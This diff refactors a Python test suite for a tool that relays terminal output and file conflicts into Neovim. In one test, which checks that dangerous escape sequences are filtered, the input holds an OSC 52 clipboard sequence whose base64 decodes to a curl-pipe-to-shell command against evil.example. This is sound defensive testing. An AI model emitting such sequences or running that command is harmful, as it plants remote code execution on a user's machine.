@@ -14,9 +14,9 @@ from typing import Any
 import anyio
 import pytest
 
-from louise.broker import PermissionRequest, QueueView
 from louise.nvim.engine import Engine
 from louise.nvim.frames import APPLY
+from louise.permissions.broker import PermissionRequest, QueueView
 
 
 class FakeNeovim:
@@ -102,8 +102,8 @@ def request(ident: int) -> PermissionRequest:
 def test_two_fs_conflicts_in_one_frame_both_reach_neovim_and_both_resolve(
         engine: Engine, ui: FakeNeovim) -> None:
     hold_a_frame(engine, ui)
-    first = on_loop(engine, engine.ask_conflict, Path("/ws/a.txt"), "demo:s")
-    second = on_loop(engine, engine.ask_conflict, Path("/ws/b.txt"), "demo:s")
+    first = on_loop(engine, engine.conflicts.ask, Path("/ws/a.txt"), "demo:s")
+    second = on_loop(engine, engine.conflicts.ask, Path("/ws/b.txt"), "demo:s")
     ui.wait(lambda: len(engine.outbox.fs_conflicts.items) == 2)
     ui.release.set()
     asked = ui.wait(lambda: ui.batches_with("fs_conflict"))
@@ -143,7 +143,7 @@ def test_a_failed_conflict_prompt_refuses_the_writes_and_everything_is_sent_agai
         engine: Engine, ui: FakeNeovim) -> None:
     ui.fail = lambda batch: ["fs_conflict"] if "fs_conflict" in batch else []
     ui.wait(lambda: ui.batches_with("limits"))
-    asked = on_loop(engine, engine.ask_conflict, Path("/ws/a.txt"), "demo:s")
+    asked = on_loop(engine, engine.conflicts.ask, Path("/ws/a.txt"), "demo:s")
     assert asked.result(timeout=10) == "refuse", "never left waiting for an answer"
     # The full render after the failure: every label again.
     ui.wait(lambda: len(ui.batches_with("limits")) == 2)
@@ -185,17 +185,22 @@ def test_a_big_terminal_output_reaches_neovim_whole_in_bounded_frames(
     """Issue 14 item 5: 80,000 lines (960 KB: under the 1 MiB terminal output limit, ~30
     frames' slices) arrive at once; frames go on by themselves until all of it, then the
     exit status, are applied."""
-    from louise.client_terminal import ExitStatus, TerminalCreated, TerminalExited, TerminalOutput
+    from louise.capabilities.terminal_events import (
+        ExitStatus,
+        TerminalCreated,
+        TerminalExited,
+        TerminalOutput,
+    )
     from louise.nvim.terminals import TERMINAL_SLICE_BYTES
 
     output = b"".join(b"line %06d\n" % n for n in range(80_000))
 
     def produce() -> None:
-        engine._on_terminal("demo:s", TerminalCreated("t1", "seq", ("80000",), "/ws"))
+        engine.terminals.on_terminal("demo:s", TerminalCreated("t1", "seq", ("80000",), "/ws"))
         for at in range(0, len(output), 65536):
             piece = output[at:at + 65536]
-            engine._on_terminal("demo:s", TerminalOutput("t1", piece, piece.decode()))
-        engine._on_terminal("demo:s", TerminalExited("t1", ExitStatus(0, None)))
+            engine.terminals.on_terminal("demo:s", TerminalOutput("t1", piece, piece.decode()))
+        engine.terminals.on_terminal("demo:s", TerminalExited("t1", ExitStatus(0, None)))
 
     ui.wait(lambda: ui.completed >= 1)
     on_loop_call(engine, produce)
@@ -212,16 +217,21 @@ def test_terminals_past_the_per_frame_bound_reach_neovim_in_later_frames(
         engine: Engine, ui: FakeNeovim) -> None:
     """Issue 21 item 9: 300 terminals starting, writing and ending while Neovim is busy
     with a frame used to lose all but 256 of them (no command, no output, no exit)."""
-    from louise.client_terminal import ExitStatus, TerminalCreated, TerminalExited, TerminalOutput
+    from louise.capabilities.terminal_events import (
+        ExitStatus,
+        TerminalCreated,
+        TerminalExited,
+        TerminalOutput,
+    )
 
     count = 300
 
     def produce() -> None:
         for n in range(count):
             key = f"demo:s{n % 8}"  # several chats, each within what a chat keeps
-            engine._on_terminal(key, TerminalCreated(f"t{n}", "echo", (str(n),), "/ws"))
-            engine._on_terminal(key, TerminalOutput(f"t{n}", f"{n}\n".encode(), f"{n}\n"))
-            engine._on_terminal(key, TerminalExited(f"t{n}", ExitStatus(0, None)))
+            engine.terminals.on_terminal(key, TerminalCreated(f"t{n}", "echo", (str(n),), "/ws"))
+            engine.terminals.on_terminal(key, TerminalOutput(f"t{n}", f"{n}\n".encode(), f"{n}\n"))
+            engine.terminals.on_terminal(key, TerminalExited(f"t{n}", ExitStatus(0, None)))
 
     hold_a_frame(engine, ui)
     on_loop_call(engine, produce)
@@ -244,7 +254,7 @@ def test_terminal_output_reaches_neovim_without_clipboard_or_title_sequences(
         engine: Engine, ui: FakeNeovim) -> None:
     """Issue 21 item 1: OSC 52 (the clipboard), OSC 0/2 (the title), OSC 8 (links) and DCS
     never reach Neovim's terminal emulator, even split across two chunks; colours do."""
-    from louise.client_terminal import TerminalOutput
+    from louise.capabilities.terminal_events import TerminalOutput
 
     chunks = ["ok \x1b[31mred\x1b[0m \x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3gg",
               "fCBzaA==\x07\x1b]2;title\x07\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b",
@@ -252,7 +262,7 @@ def test_terminal_output_reaches_neovim_without_clipboard_or_title_sequences(
 
     def produce() -> None:
         for piece in chunks:
-            engine._on_terminal("demo:s", TerminalOutput("t1", piece.encode(), piece))
+            engine.terminals.on_terminal("demo:s", TerminalOutput("t1", piece.encode(), piece))
 
     ui.wait(lambda: ui.completed >= 1)
     on_loop_call(engine, produce)
